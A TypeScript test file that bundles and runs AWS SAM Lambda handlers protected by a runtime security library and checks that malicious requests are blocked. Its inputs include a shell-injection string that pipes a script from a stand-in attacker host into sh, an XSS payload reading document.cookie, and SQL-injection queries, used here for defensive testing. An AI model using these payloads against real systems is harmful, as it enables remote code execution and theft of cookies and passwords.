/**
 * examples/aws-sam: the template declares what the README promises, the handlers type-check against
 * the package by name, and the functions are bundled with esbuild exactly as `sam build` does it for
 * `BuildMethod: esbuild` (bundle, platform node, and the template's Target/Format/Minify/External),
 * then the bundles run in a fresh Node process laid out like a Lambda task (re2 from a layer on
 * NODE_PATH) and are invoked with real-shaped API Gateway and SQS events.
 */
import t from 'tap';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { build, type Format } from 'esbuild';
import YAML from 'yaml';
import * as ev from '../helpers/lambda-events';
import { jsonLines, link, order, root, stage, tsc } from './helpers';

type Any = any;

const example = stage('aws-sam');
t.teardown(example.cleanup);
const dir = example.dir;

/** CloudFormation's short-form intrinsics, as YAML tags. */
const cfnTags = [
  { tag: '!Ref', resolve: (s: string) => ({ Ref: s }) },
  { tag: '!Sub', resolve: (s: string) => ({ 'Fn::Sub': s }) },
  { tag: '!GetAtt', resolve: (s: string) => ({ 'Fn::GetAtt': s.split('.') }) },
];
const template = YAML.parse(fs.readFileSync(path.join(dir, 'template.yaml'), 'utf8'), { customTags: cfnTags }) as Any;
const resources = template.Resources as Record<string, Any>;
const functions = Object.entries(resources).filter(([, r]) => r.Type === 'AWS::Serverless::Function');
const runtime: string = template.Globals.Function.Runtime;

t.test('template: SAM transform, esbuild with re2 external, the re2 layer built for the same runtime', async (t) => {
  t.equal(template.Transform, 'AWS::Serverless-2016-10-31');
  t.equal(functions.length, 2, 'two functions');
  const layer = resources.Re2Layer;
  t.equal(layer.Type, 'AWS::Serverless::LayerVersion');
  t.equal(layer.Metadata.BuildMethod, runtime, 'the layer is built with the functions’ runtime (same Node ABI)');
  t.same(layer.Properties.CompatibleRuntimes, [runtime]);
  t.same(layer.Properties.CompatibleArchitectures, template.Globals.Function.Architectures);
  t.equal(layer.Metadata.BuildArchitecture, template.Globals.Function.Architectures[0]);
  t.same(template.Globals.Function.Layers, [{ Ref: 'Re2Layer' }], 'every function gets the layer');
  const layerPkg = JSON.parse(fs.readFileSync(path.join(dir, layer.Properties.ContentUri, 'package.json'), 'utf8')) as Any;
  const libPkg = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8')) as Any;
  t.equal(layerPkg.dependencies.re2, libPkg.dependencies.re2, 'the layer installs the re2 range the library declares');
  t.equal(runtime, 'nodejs20.x');
  for (const [name, fn] of functions) {
    t.equal(fn.Metadata.BuildMethod, 'esbuild', `${name}: BuildMethod esbuild`);
    const bp = fn.Metadata.BuildProperties;
    t.ok(bp.External.includes('re2'), `${name}: re2 is external`);
    t.equal(bp.Target, `node${runtime.replace(/^nodejs|\.x$/g, '')}`, `${name}: esbuild target matches the runtime`);
    const entry = bp.EntryPoints[0] as string;
    t.ok(fs.existsSync(path.join(dir, fn.Properties.CodeUri, entry)), `${name}: entry point exists`);
    t.equal(fn.Properties.Handler, `${path.basename(entry, '.ts')}.handler`, `${name}: Handler names the bundle sam build writes`);
  }
});

t.test('template: an HTTP API route with a schema, an SQS trigger reporting batch item failures, a DLQ', async (t) => {
  const api = resources.OrdersApiFunction;
  const routes = Object.values(api.Properties.Events as Record<string, Any>).map((e) => `${e.Properties.Method} ${e.Properties.Path}`);
  t.same(routes.sort(), ['GET /orders/{id}', 'POST /orders']);
  t.ok(Object.values(api.Properties.Events as Record<string, Any>).every((e) => e.Type === 'HttpApi'));
  const apiSrc = fs.readFileSync(path.join(dir, 'src/api.ts'), 'utf8');
  t.match(apiSrc, /schemas: \{ 'POST \/orders': orderSchema \}/, 'the POST route has a schema');
  t.match(apiSrc, /from 'serverless-rasp\/aws-lambda'/, 'imported by package name');

  const worker = resources.FulfilmentFunction;
  const sqs = Object.values(worker.Properties.Events as Record<string, Any>)[0];
  t.equal(sqs.Type, 'SQS');
  t.same(sqs.Properties.FunctionResponseTypes, ['ReportBatchItemFailures']);
  t.same(sqs.Properties.Queue, { 'Fn::GetAtt': ['OrdersQueue', 'Arn'] });
  const queue = resources.OrdersQueue.Properties;
  t.same(queue.RedrivePolicy.deadLetterTargetArn, { 'Fn::GetAtt': ['OrdersDeadLetterQueue', 'Arn'] });
  t.ok(queue.RedrivePolicy.maxReceiveCount >= 1);
  t.equal(resources.OrdersDeadLetterQueue.Type, 'AWS::SQS::Queue');
  t.ok(queue.VisibilityTimeout >= 6 * template.Globals.Function.Timeout, 'visibility timeout ≥ 6 × function timeout');
});

t.test('type-checks against the package by name', async (t) => {
  const r = tsc(dir);
  t.equal(r.status, 0, r.output);
});

// ---- bundle as sam build does, then run like Lambda -------------------------------------------------

const artifacts = path.join(dir, '.aws-sam', 'build');
const layerModules = path.join(dir, 'opt', 'nodejs', 'node_modules');

async function samBundle(logicalId: string): Promise<{ file: string; inputs: string[]; text: string }> {
  const bp = resources[logicalId].Metadata.BuildProperties as Any;
  const outdir = path.join(artifacts, logicalId);
  // aws-lambda-builders' esbuild workflow: --bundle --platform=node --outdir, then the template's
  // properties (its defaults: target es2020, format cjs, minify, when the template gives none).
  const result = await build({
    absWorkingDir: dir,
    entryPoints: (bp.EntryPoints as string[]).map((e) => path.join(dir, resources[logicalId].Properties.CodeUri, e)),
    bundle: true,
    platform: 'node',
    outdir,
    target: bp.Target ?? 'es2020',
    format: (bp.Format ?? 'cjs') as Format,
    minify: bp.Minify ?? true,
    sourcemap: bp.Sourcemap === true,
    external: bp.External ?? [],
    metafile: true,
    logLevel: 'silent',
  });
  const entry = path.basename((bp.EntryPoints as string[])[0]!, '.ts');
  const file = path.join(outdir, `${entry}.js`);
  return { file, inputs: Object.keys(result.metafile.inputs), text: fs.readFileSync(file, 'utf8') };
}

interface Invocation {
  handler: string;
  event: unknown;
}

/**
 * Runs the bundles in a fresh Node process the way the Lambda runtime loads them: the task directory
 * as cwd, `require('./<entry>.js').handler(event, context)`, re2 resolvable only through NODE_PATH
 * (the layer's /opt/nodejs/node_modules) when `withLayer`.
 */
function invoke(taskDirs: Record<string, string>, invocations: Invocation[], withLayer: boolean): { results: Any[]; stdout: string; stderr: string } {
  const runner = path.join(dir, 'runner.js');
  fs.writeFileSync(
    runner,
    `const fs = require('fs');
const [input, output] = process.argv.slice(2);
const { dirs, invocations } = JSON.parse(fs.readFileSync(input, 'utf8'));
(async () => {
  const results = [];
  let n = 0;
  for (const inv of invocations) {
    const [fn, file] = inv.handler.split('#');
    const mod = require(require('path').join(dirs[fn], file + '.js'));
    const context = { awsRequestId: 'req-' + (++n), functionName: fn, functionVersion: '$LATEST', invokedFunctionArn: 'arn:aws:lambda:us-east-1:123456789012:function:' + fn, memoryLimitInMB: '512', logGroupName: '/aws/lambda/' + fn, logStreamName: 's', callbackWaitsForEmptyEventLoop: true, getRemainingTimeInMillis: () => 10000, done() {}, fail() {}, succeed() {} };
    try {
      results.push({ ok: true, value: await mod.handler(inv.event, context), arity: mod.handler.length });
    } catch (err) {
      results.push({ ok: false, name: err.name, code: err.code, message: err.message });
    }
  }
  fs.writeFileSync(output, JSON.stringify(results));
})();
`,
  );
  const input = path.join(dir, 'invocations.json');
  const output = path.join(dir, 'results.json');
  fs.rmSync(output, { force: true });
  fs.writeFileSync(input, JSON.stringify({ dirs: taskDirs, invocations }));
  const env: Record<string, string> = { PATH: process.env.PATH ?? '', AWS_REGION: 'us-east-1', AWS_LAMBDA_FUNCTION_NAME: 'orders' };
  if (withLayer) env.NODE_PATH = layerModules;
  const r = spawnSync(process.execPath, [runner, input, output], { cwd: artifacts, env, encoding: 'utf8', timeout: 60_000 });
  const results = fs.existsSync(output) ? (JSON.parse(fs.readFileSync(output, 'utf8')) as Any[]) : [];
  return { results, stdout: r.stdout, stderr: r.stderr };
}

t.test('bundled like sam build, run like Lambda with re2 from the layer', async (t) => {
  const api = await samBundle('OrdersApiFunction');
  const worker = await samBundle('FulfilmentFunction');
  for (const [name, b] of [['api', api], ['worker', worker]] as const) {
    t.notOk(b.inputs.some((i) => /node_modules[\\/]re2[\\/]/.test(i)), `${name}: re2 is not inlined`);
    t.notOk(b.inputs.some((i) => /@azure|functions-framework/.test(i)), `${name}: no other provider SDK in the bundle`);
    t.ok(b.inputs.some((i) => /dist[\\/]esm[\\/]adapters[\\/]aws-lambda[\\/]index\.js$/.test(i)), `${name}: the package's built adapter is inlined (its ES module tree: the \`module\` condition)`);
    t.match(b.text, /require\("re2"\)/, `${name}: re2 is required at run time`);
    t.notOk(fs.existsSync(path.join(path.dirname(b.file), 'node_modules')), `${name}: the artifact is the bundle alone`);
  }
  // The layer: node_modules/re2 under nodejs/node_modules, which Lambda mounts at /opt.
  link(path.join(root, 'node_modules', 're2'), path.join(layerModules, 're2'));

  const dirs = { api: path.dirname(api.file), worker: path.dirname(worker.file) };
  const json = { 'content-type': 'application/json' };
  const good = order();
  const sqsBatch = ev.sqs([
    { body: JSON.stringify(good), messageId: 'm-clean' },
    { body: JSON.stringify(order({ note: '$(curl -s http://attacker.example/x.sh | sh)' })), messageId: 'm-shell' },
    { body: JSON.stringify(order({ items: [{ sku: 'TSHIRT-42', qty: 'lots' }] })), messageId: 'm-schema' },
    { body: JSON.stringify(order({ customer: { name: 'Bo Chen', email: 'bo@example.org' } })), messageId: 'm-clean-2' },
  ]);
  const invocations: Invocation[] = [
    { handler: 'api#api', event: ev.apiGatewayV2({ routeKey: 'POST /orders', path: '/orders', method: 'POST', headers: json, body: JSON.stringify(good) }) },
    { handler: 'api#api', event: ev.apiGatewayV2({ routeKey: 'GET /orders/{id}', path: '/orders/42', route: '/orders/{id}', query: { view: 'summary' } }) },
    {
      handler: 'api#api',
      event: ev.apiGatewayV2({ routeKey: 'POST /orders', path: '/orders', method: 'POST', headers: json, body: JSON.stringify(order({ note: '<img src=x onerror=alert(document.cookie)>' })) }),
    },
    { handler: 'api#api', event: ev.apiGatewayV2({ routeKey: 'GET /orders/{id}', path: '/orders/42', route: '/orders/{id}', query: { q: "x' UNION SELECT password FROM users--" } }) },
    { handler: 'api#api', event: ev.apiGatewayV2({ routeKey: 'POST /orders', path: '/orders', method: 'POST', headers: json, body: JSON.stringify(order({ items: [{ sku: 'TSHIRT-42', qty: 0 }] })) }) },
    { handler: 'api#api', event: ev.apiGatewayV2({ routeKey: 'POST /orders', path: '/orders', method: 'POST', headers: json, body: JSON.stringify(order({ coupon: 'FREE' })) }) },
    { handler: 'worker#worker', event: sqsBatch },
  ];
  const run = invoke(dirs, invocations, true);
  t.equal(run.results.length, invocations.length, run.stderr);
  const [created, got, xss, sqli, badQty, extraField, batch] = run.results;

  t.equal(created.value.statusCode, 201, 'a valid order is created');
  t.equal(JSON.parse(created.value.body).units, 3);
  t.equal(created.arity, 2, 'the exported handler declares two parameters');
  t.same(JSON.parse(got.value.body), { id: '42', status: 'processing' });
  t.equal(xss.value.statusCode, 403, 'XSS in the body: 403');
  t.same(JSON.parse(xss.value.body), { error: 'blocked', requestId: 'req-3' });
  t.equal(sqli.value.statusCode, 403, 'SQL injection in the query: 403');
  t.equal(badQty.value.statusCode, 400, 'schema violation: 400');
  t.equal(JSON.parse(badQty.value.body).error, 'invalid_request');
  t.equal(extraField.value.statusCode, 400, 'unknown field: 400 (additionalProperties: false)');
  t.same(
    (batch.value.batchItemFailures as Array<{ itemIdentifier: string }>).map((f) => f.itemIdentifier).sort(),
    ['m-schema', 'm-shell'],
    'the poisoned and the invalid message go back to the queue (then the DLQ); the clean ones do not',
  );

  const lines = jsonLines(run.stdout);
  const fulfilled = lines.filter((l) => l.msg === 'order fulfilled').map((l) => l.messageId);
  t.same(fulfilled, ['m-clean', 'm-clean-2'], 'only the clean records reached the worker');
  const events = lines.filter((l) => l.type === 'serverless-rasp');
  t.same(
    events.map((e) => `${e.action} ${e.class}`),
    ['block xss', 'block sqli', 'block schema', 'block schema', 'block shell', 'block schema'],
    'one security event per blocked request or record',
  );
  t.ok(events.every((e) => e.provider === 'aws'));
  t.notMatch(run.stderr, /RASP_W_NO_RE2/, 're2 loaded from the layer: no fallback warning');
});

t.test('without the layer the bundle still protects (re2js) and says so once', async (t) => {
  const dirs = { api: path.join(artifacts, 'OrdersApiFunction') };
  const json = { 'content-type': 'application/json' };
  const run = invoke(
    dirs,
    [
      { handler: 'api#api', event: ev.apiGatewayV2({ routeKey: 'POST /orders', path: '/orders', method: 'POST', headers: json, body: JSON.stringify(order()) }) },
      { handler: 'api#api', event: ev.apiGatewayV2({ routeKey: 'POST /orders', path: '/orders', method: 'POST', headers: json, body: JSON.stringify(order({ items: [{ sku: 'lower-case', qty: 1 }] })) }) },
      { handler: 'api#api', event: ev.apiGatewayV2({ routeKey: 'GET /orders/{id}', path: '/orders/42', route: '/orders/{id}', query: { q: "x' OR '1'='1" } }) },
    ],
    false,
  );
  t.same(
    run.results.map((r) => r.value?.statusCode),
    [201, 400, 403],
  );
  t.equal(run.stderr.match(/RASP_W_NO_RE2/g)?.length, 1, 'one warning line');
});
